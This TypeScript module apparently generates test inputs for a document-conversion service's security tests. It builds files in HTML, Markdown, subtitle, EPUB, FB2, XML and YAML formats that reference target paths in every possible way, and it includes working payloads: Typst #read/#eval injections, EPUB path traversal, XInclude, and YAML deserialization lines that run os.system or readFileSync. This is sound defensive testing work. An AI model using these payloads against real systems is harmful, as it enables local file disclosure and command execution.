import { type Attack, attack, withMember } from "../attack.ts";
import { drawingOf, sheetsOf } from "./drawings.ts";
import { eachOf, type Places } from "./targets.ts";

/** A page that refers to the targets in every way. */
export const pageOf = (places: Places): string => {
  const each = eachOf(places);
  const [first] = places;
  const svg = drawingOf(places);
  return `<html><head><base href="${first}/"><link rel="stylesheet" href="${first}"><meta http-equiv="refresh" content="0;url=${first}"><style>${each((place) => `@import url("${place}"); body { background: url("${place}") }`)}</style></head><body background="${first}">${each(
    (place) =>
      `<img src="${place}"><img srcset="${place} 2x"><picture><source srcset="${place}"></picture><iframe src="${place}"></iframe><object data="${place}"></object><embed src="${place}"><video src="${place}" poster="${place}"></video><input type="image" src="${place}"><p style="background:url('${place}')">x</p><script src="${place}"></script><img src="data:image/svg+xml;base64,${btoa(svg)}"><svg><image href="${place}"/></svg><a href="${place}">x</a>`,
  )}</body></html>`;
};

/** Texts, and documents made from them. */
export const texts = (places: Places): readonly Attack[] => {
  const each = eachOf(places);
  const [first] = places;
  const html = pageOf(places);
  /** Typst code where text is expected, with all characters that could end a string or start code. */
  const code = each(
    (place) =>
      `#read("${place}") #image("${place}") #include "${place}" #import "${place}": * #eval("read(\\"${place}\\")") $ #read("${place}") $ \\" #read("${place}") \\\\" + read("${place}") + " ${"`"}#read("${place}")${"`"} */ #read("${place}") /* // \u0000" #read("${place}")\r#read("${place}")\u2028#read("${place}")`,
  );
  const attributes = `<p title='" + read("${first}") + "' lang='en", read("${first}"), "'><a href='https://x"#read("${first}")'>x</a><img alt='"+read("${first}")+"' src="data:image/png;base64,AA" width='9pt) + read("${first}")'><ol start='1, read("${first}")'><li>x</ol><td colspan='read("${first}")'>`;
  return [
    attack("html", ["pdf", "docx", "epub", "md", "txt"], "all kinds of references", () => html),
    attack(
      "md",
      ["html", "pdf", "docx", "epub"],
      "all kinds of references",
      () =>
        `---\ncss: ${first}\n---\n${each((place) => `![a](${place})\n![a](<${place}>)\n[a]: ${place}\n![a]\n`)}\n${html}`,
    ),
    attack("txt", ["pdf", "html", "docx"], "as Typst code", () => code),
    attack(
      "md",
      ["pdf"],
      "as Typst code",
      () => `${code}\n\n\`\`\`typ\n${code}\n\`\`\`\n\n# ${code.replaceAll("\n", " ")}`,
    ),
    attack(
      "html",
      ["pdf"],
      "as Typst code",
      () =>
        `<html lang='"#read("${first}")'><title>" #read("${first}")</title><meta name=author content='"#read("${first}")'>${attributes}<pre><code class='language-"#read("${first}")'>${code}</code></pre><p>${code}</p><math><mi>${code}</mi></math>`,
    ),
    attack(
      "srt",
      ["ass", "vtt", "ttml"],
      "all kinds of references",
      () =>
        `1\n00:00:01,000 --> 00:00:02,000\n${each((place) => `<img src="${place}">{\\1img(${place})}<font face="${place}">x</font>`)}\n`,
    ),
    attack(
      "vtt",
      ["ttml", "srt"],
      "all kinds of references",
      () => `WEBVTT\n\nSTYLE\n::cue { background: url("${first}") }\n\n00:01.000 --> 00:02.000\n<c.${first}>x\n`,
    ),
  ];
};

export const books = (places: Places): readonly Attack[] => {
  const each = eachOf(places);
  const [first] = places;
  return [
    attack("epub", ["html", "pdf", "txt", "md"], "in its pages", () =>
      withMember("epub", "OPS/text/one.xhtml", (text) =>
        text
          .replace(
            "</body>",
            `${each((place) => `<img src="${place}"/><object data="${place}"/><a href="${place}">x</a>`)}</body>`,
          )
          .replace("<title/>", `<title/><link rel="stylesheet" href="${first}"/>`),
      ),
    ),
    attack("epub", ["html", "txt"], "in its manifest", () =>
      withMember("epub", "OPS/book.opf", (text) =>
        text
          .replace(
            "<manifest>",
            `<manifest>${each((place, index) => `<item id="x${index}" href="${place}" media-type="application/xhtml+xml"/><item id="y${index}" href="../../../../${place}" media-type="application/xhtml+xml"/>`)}`,
          )
          .replace(
            "<itemref",
            `${each((_, index) => `<itemref idref="x${index}"/><itemref idref="y${index}"/>`)}<itemref`,
          ),
      ),
    ),
    attack("epub", ["html"], "in its container file", () =>
      withMember("epub", "META-INF/container.xml", (text) =>
        text.replace('full-path="OPS/book.opf"', `full-path="${places[1] ?? first}"`),
      ),
    ),
    attack(
      "fb2",
      ["html", "pdf"],
      "all kinds of references",
      () =>
        `<FictionBook xmlns:l="http://www.w3.org/1999/xlink"><body><section>${each((place) => `<image l:href="${place}"/><p><a l:href="${place}">x</a></p>`)}</section></body></FictionBook>`,
    ),
  ];
};

export const trees = (places: Places): readonly Attack[] => {
  const each = eachOf(places);
  const sheet = sheetsOf(places);
  const xml = each(
    (place) =>
      `<a xlink:href="${place}"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${place}" parse="text"/>`,
  );
  return [
    ...(["plist", "xml", "yaml"] as const).map((from) =>
      attack(from, ["json"], "all kinds of references", () =>
        from === "yaml"
          ? each(
              (place, index) =>
                `a${index}: !!js/function "require('fs').readFileSync('${place}')"\nb${index}: !include ${place}\nc${index}: !!python/object/apply:os.system [ls]`,
            )
          : from === "xml"
            ? `${sheet}<r xmlns:xlink="x">${xml}</r>`
            : `<plist><dict>${each((place) => `<key>a</key><string>${place}</string>`)}</dict></plist>`,
      ),
    ),
  ];
};
